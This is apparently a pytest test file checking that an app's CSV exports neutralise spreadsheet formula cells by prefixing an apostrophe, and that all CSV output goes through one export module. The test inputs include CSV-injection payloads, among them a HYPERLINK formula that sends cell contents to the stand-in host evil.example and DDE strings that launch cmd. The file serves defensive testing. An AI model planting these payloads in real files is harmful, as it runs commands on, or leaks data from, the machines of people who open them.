"""CSV exports neutralise formula cells (DESIGN §8): a text cell that a spreadsheet would run as a
formula starts with an apostrophe, numbers stay numbers, and every export goes through
csm.lib.csv_export."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from csm.lib.csv_export import csv_response
from feedback.models import Response, Survey, SurveyKind
from tests.factories import AccountFactory

ROOT = Path(__file__).resolve().parent.parent


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.getvalue().decode())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "-",
        "+44 20 7946 0000",
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(text):
    response = csv_response("x", ["comment"], [[text]])
    assert cells(response)[1] == ["'" + text]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12.5, "-12.5"),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (0, "0"),
        (None, ""),
        ("Plain words - with a dash", "Plain words - with a dash"),
        ("a=b", "a=b"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(value, written):
    assert cells(csv_response("x", ["value"], [[value]]))[1] == [written]


def test_the_header_is_neutralised_too():
    assert cells(csv_response("x", ["=cmd", "name"], []))[0] == ["'=cmd", "name"]


def test_a_survey_comment_formula_reaches_the_comments_export_as_text(maggie_client):
    account = AccountFactory(name="=1+2")
    survey = Survey.objects.create(name="NPS", kind=SurveyKind.NPS, question="?")
    comment = '=HYPERLINK("http://evil.example","Click me")'
    Response.objects.create(
        survey=survey,
        account=account,
        kind=SurveyKind.NPS,
        score=3,
        scale_min=0,
        scale_max=10,
        comment=comment,
        answered_at=datetime(2026, 11, 1, tzinfo=UTC),
    )
    rows = cells(maggie_client.get("/feedback/comments/", {"format": "csv"}))
    header, row = rows[0], rows[1]
    assert row[header.index("comment")] == "'" + comment
    assert row[header.index("account")] == "'=1+2"
    assert row[header.index("score")] == "3"


def test_every_csv_download_goes_through_csm_lib_csv_export():
    """Only csm/lib/csv_export.py writes CSV: a new export that builds its own writer would skip
    the neutralising."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "var", "staticfiles"}:
            continue
        if relative == Path("csm/lib/csv_export.py"):
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == []
